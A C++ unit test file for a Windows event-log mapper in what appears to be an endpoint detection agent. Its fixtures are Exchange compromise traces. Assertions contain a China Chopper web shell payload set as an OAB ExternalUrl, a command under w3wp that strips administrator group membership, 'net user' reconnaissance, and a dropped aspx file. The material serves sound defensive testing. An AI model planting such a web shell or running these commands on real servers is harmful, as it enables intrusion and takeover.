#include "agent/sources/winevent/winevent_record_mapper.h"

#include <gtest/gtest.h>

#include <fstream>
#include <iterator>

#include "common/hash.h"

// Event XML as EvtRender(EvtRenderEventXml) renders it, through the reader and normalizer the
// live source uses. Fixtures: tests/testdata/winevent/evtrender (README.md there says which are
// recorded and which are written after Windows' rendering).
namespace tripline::agent {
namespace {

const std::string kSysmon = "Microsoft-Windows-Sysmon/Operational";

std::string Fixture(const std::string& name) {
  std::ifstream in(std::string(TRIPLINE_WINEVENT_TESTDATA_DIR) + "/" + name, std::ios::binary);
  std::string xml((std::istreambuf_iterator<char>(in)), {});
  EXPECT_FALSE(xml.empty()) << name;
  while (!xml.empty() && (xml.back() == '\n' || xml.back() == '\r')) xml.pop_back();
  return xml;  // EvtRender's string has no line break at its end
}

v1::Host Host() {
  v1::Host host;
  host.set_id("EXCH01");
  host.set_os_type("windows");
  return host;
}

// Maps a fixture read from `channel` (generation 0); fails the test when it cannot be read.
v1::Event Map(const std::string& fixture, const std::string& channel) {
  WineventRecordMapper mapper("windows-events", "agent-1", Host());
  std::string xml = Fixture(fixture);
  WindowsEventRecord record;
  absl::Status st = WineventRecordMapper::Read(xml, record);
  EXPECT_TRUE(st.ok()) << st;
  v1::Event event;
  EXPECT_FALSE(mapper.Fill(record, xml, channel, 0, event));
  return event;
}

TEST(WineventRecordMapperTest, Sysmon1W3wpSpawnsCmd) {
  v1::Event e = Map("sysmon1_w3wp_cmd.xml", kSysmon);
  ASSERT_TRUE(e.has_process()) << e.ShortDebugString();
  const v1::ProcessStart& p = e.process();
  EXPECT_EQ(p.process().executable(), "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(p.process().name(), "cmd.exe");
  EXPECT_EQ(p.process().pid(), 2404);
  // &quot; decoded.
  EXPECT_EQ(p.process().command_line(), "\"c:\\windows\\system32\\cmd.exe\" /c net user");
  EXPECT_EQ(p.process().entity_id(), "{365ABB72-4A01-5CE7-0000-0010EE9DAC00}");
  EXPECT_EQ(p.parent().executable(), "C:\\Windows\\System32\\inetsrv\\w3wp.exe");
  EXPECT_EQ(p.parent().pid(), 2580);
  EXPECT_NE(p.parent().command_line().find("w3wp.exe -ap \"DefaultAppPool\" -v \"v2.0\""),
            std::string::npos);
  EXPECT_EQ(p.user_domain(), "IIS APPPOOL");
  EXPECT_EQ(p.user_name(), "DefaultAppPool");
  EXPECT_EQ(p.working_directory(), "c:\\windows\\system32\\inetsrv\\");
  EXPECT_EQ(p.integrity_level(), "High");
  EXPECT_EQ(p.logon_id(), "0x9cf992");
  EXPECT_EQ(p.hash_md5(), "ad7b9c14083b52bc532fba5948342b98");
  EXPECT_EQ(p.product(), "Microsoft® Windows® Operating System");
  EXPECT_EQ(e.event_time().seconds(), 1558661633);  // 2019-05-24T01:33:53Z
  EXPECT_EQ(e.event_time().nanos(), 112486000);
}

TEST(WineventRecordMapperTest, EnvelopeOfALiveRecord) {
  const std::string xml = Fixture("sysmon1_w3wp_cmd.xml");
  v1::Event e = Map("sysmon1_w3wp_cmd.xml", kSysmon);
  const std::string file_id = WineventRecordMapper::FileId(kSysmon, 0);
  EXPECT_EQ(e.source().kind(), v1::Source::KIND_WINEVENT);
  EXPECT_EQ(e.source().name(), "windows-events");
  EXPECT_EQ(e.source().path(), kSysmon);
  EXPECT_EQ(e.source().file_id(), file_id);
  EXPECT_EQ(e.source().position(), 1044u);  // EventRecordID
  EXPECT_EQ(e.source().format(), "evtx");
  EXPECT_EQ(e.event_id(), EventId("agent-1", file_id, 1044));
  EXPECT_EQ(e.agent_id(), "agent-1");
  EXPECT_EQ(e.host().id(), "EXCH01");
  EXPECT_EQ(e.original(), xml);
  EXPECT_FALSE(e.original_truncated());
  EXPECT_TRUE(e.labels().empty());
  EXPECT_TRUE(e.has_observed_time());
}

TEST(WineventRecordMapperTest, Sysmon11AspxWrittenIntoOwaAuth) {
  v1::Event e = Map("sysmon11_owa_aspx.xml", kSysmon);
  ASSERT_TRUE(e.has_file()) << e.ShortDebugString();
  const v1::FileChange& f = e.file();
  EXPECT_EQ(f.action(), v1::FileChange::ACTION_CREATED);
  EXPECT_EQ(f.path(),
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
            "RedirSuiteServerProxy.aspx");
  EXPECT_EQ(f.name(), "RedirSuiteServerProxy.aspx");
  EXPECT_EQ(f.extension(), "aspx");
  EXPECT_EQ(f.process().executable(), "c:\\windows\\system32\\inetsrv\\w3wp.exe");
  EXPECT_EQ(f.process().pid(), 4140);
  EXPECT_EQ(f.created().seconds(), 1614757711);  // 2021-03-03 07:48:31.002 UTC
  EXPECT_EQ(e.source().position(), 70190u);
  // TimeCreated with Windows 11's seven fraction digits.
  EXPECT_EQ(e.event_time().seconds(), 1614757711);
  EXPECT_EQ(e.event_time().nanos(), 6123000);
}

TEST(WineventRecordMapperTest, Security4688CmdUnderW3wp) {
  v1::Event e = Map("security4688_w3wp_cmd.xml", "Security");
  ASSERT_TRUE(e.has_process()) << e.ShortDebugString();
  const v1::ProcessStart& p = e.process();
  EXPECT_EQ(p.process().executable(), "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(p.process().pid(), 0x17ec);
  EXPECT_EQ(p.process().command_line(),
            "cmd /c net group \"Exchange Organization administrators\" administrator /del "
            "/domain");
  EXPECT_EQ(p.parent().executable(), "C:\\Windows\\System32\\inetsrv\\w3wp.exe");
  EXPECT_EQ(p.parent().pid(), 0x102c);
  EXPECT_EQ(p.user_name(), "EXCH01$");
  EXPECT_EQ(p.user_domain(), "CONTOSO");
  EXPECT_EQ(p.logon_id(), "0x3e7");
  EXPECT_EQ(p.integrity_level(), "System");
  EXPECT_EQ(e.source().position(), 1200455u);
  EXPECT_EQ(e.source().path(), "Security");
}

TEST(WineventRecordMapperTest, System7045ServiceInstalled) {
  v1::Event e = Map("system7045_service.xml", "System");
  ASSERT_TRUE(e.has_service()) << e.ShortDebugString();
  EXPECT_EQ(e.service().action(), v1::ServiceChange::ACTION_INSTALLED);
  EXPECT_EQ(e.service().name(), "Winnet");
  EXPECT_EQ(e.service().executable(), "C:\\ProgramData\\VSPerfMon\\vsperfmon.exe");
  EXPECT_EQ(e.service().service_type(), "user mode service");
  EXPECT_EQ(e.service().start_type(), "auto start");
  EXPECT_EQ(e.service().account(), "LocalSystem");
  EXPECT_EQ(e.event_time().seconds(), 1614823900);  // 2021-03-04T02:11:40Z
}

TEST(WineventRecordMapperTest, ExchangeCmdletWithChinaChopperExternalUrl) {
  v1::Event e = Map("msexchange_cmdlet_oab.xml", "MSExchange Management");
  ASSERT_TRUE(e.has_cmdlet()) << e.ShortDebugString();
  const v1::ExchangeCmdlet& c = e.cmdlet();
  EXPECT_EQ(c.name(), "Set-OabVirtualDirectory");
  ASSERT_EQ(c.parameters().count("ExternalUrl"), 1u);
  EXPECT_EQ(c.parameters().at("ExternalUrl"),
            "http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load()"
            "{/**/eval(Request[\"code\"],\"unsafe\");}</script>");
  EXPECT_EQ(c.parameters().at("Identity"), "OAB (Default Web Site)");
  EXPECT_EQ(c.user_name(), "contoso.local/Users/Administrator");
  EXPECT_TRUE(c.succeeded());
  EXPECT_EQ(c.origin(), "msexchange_management");
  EXPECT_EQ(c.command_line().rfind("Set-OabVirtualDirectory -ExternalUrl \"http://ffff/", 0), 0u);
  EXPECT_EQ(e.source().position(), 5521u);
}

TEST(WineventRecordMapperTest, ApplicationErrorKeepsRenderedMessageAndData) {
  v1::Event e = Map("application_um1040.xml", "Application");
  ASSERT_TRUE(e.has_windows()) << e.ShortDebugString();
  const v1::WindowsEvent& w = e.windows();
  EXPECT_EQ(w.provider(), "MSExchange Unified Messaging");
  EXPECT_EQ(w.channel(), "Application");
  EXPECT_EQ(w.event_code(), 1040u);
  EXPECT_EQ(w.level(), 2u);
  EXPECT_EQ(w.record_id(), 88310u);
  EXPECT_EQ(w.computer(), "EXCH01.contoso.local");
  EXPECT_EQ(w.message().rfind("An unhandled exception occurred in a UM worker process: "
                              "System.InvalidCastException",
                              0),
            0u);
  EXPECT_EQ(w.data().at("param1"), "UMWorkerProcess");
  EXPECT_NE(w.data().at("param2").find("'Microsoft.Exchange.UM.UMCore.UMCallSessionHandler'"),
            std::string::npos);
}

TEST(WineventRecordMapperTest, ANewGenerationOfTheLogGetsNewEventIds) {
  WineventRecordMapper mapper("windows-events", "agent-1", Host());
  std::string xml = Fixture("security4688_w3wp_cmd.xml");
  WindowsEventRecord record;
  ASSERT_TRUE(WineventRecordMapper::Read(xml, record).ok());
  v1::Event before, after, again;
  mapper.Fill(record, xml, "Security", 0, before);
  mapper.Fill(record, xml, "Security", 1, after);
  mapper.Fill(record, xml, "Security", 0, again);
  EXPECT_NE(before.event_id(), after.event_id());
  EXPECT_NE(before.source().file_id(), after.source().file_id());
  EXPECT_EQ(before.source().position(), after.source().position());
  EXPECT_EQ(before.event_id(), again.event_id());  // a re-read record keeps its id
  EXPECT_NE(WineventRecordMapper::FileId("Security", 0), WineventRecordMapper::FileId("System", 0));
}

TEST(WineventRecordMapperTest, XmlThatIsNotAnEventIsAnError) {
  WindowsEventRecord record;
  for (const char* xml :
       {"",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
        "<System><EventID>1</EventID>",
        "<BookmarkList><Bookmark Channel='Security' RecordId='5'/></BookmarkList>",
        "<Event><System><EventID>1</EventID></Sys></Event>"}) {
    EXPECT_FALSE(WineventRecordMapper::Read(xml, record).ok()) << xml;
  }
}

TEST(WineventRecordMapperTest, HugeRecordIsCutOnACharacterBoundaryAndFlagged) {
  std::string xml = Fixture("application_um1040.xml");
  std::string big(20000, 'x');
  for (size_t i = 1; i < big.size(); i += 3) big.replace(i, 2, "\xC3\xA9");  // é
  xml.replace(xml.find("UMWorkerProcess</Data>"), 15, big);
  WineventRecordMapper mapper("windows-events", "agent-1", Host());
  WindowsEventRecord record;
  ASSERT_TRUE(WineventRecordMapper::Read(xml, record).ok());
  v1::Event e;
  EXPECT_TRUE(mapper.Fill(record, xml, "Application", 0, e));
  EXPECT_TRUE(e.original_truncated());
  EXPECT_LE(e.original().size(), 16u * 1024);
  EXPECT_GE(e.original().size(), 16u * 1024 - 3);
  EXPECT_NE(static_cast<unsigned char>(e.original().back()), 0xC3);  // no half character
  EXPECT_EQ(xml.compare(0, e.original().size(), e.original()), 0);
  EXPECT_EQ(e.windows().data().at("param1"), big);  // the body keeps the value
}

}  // namespace
}  // namespace tripline::agent
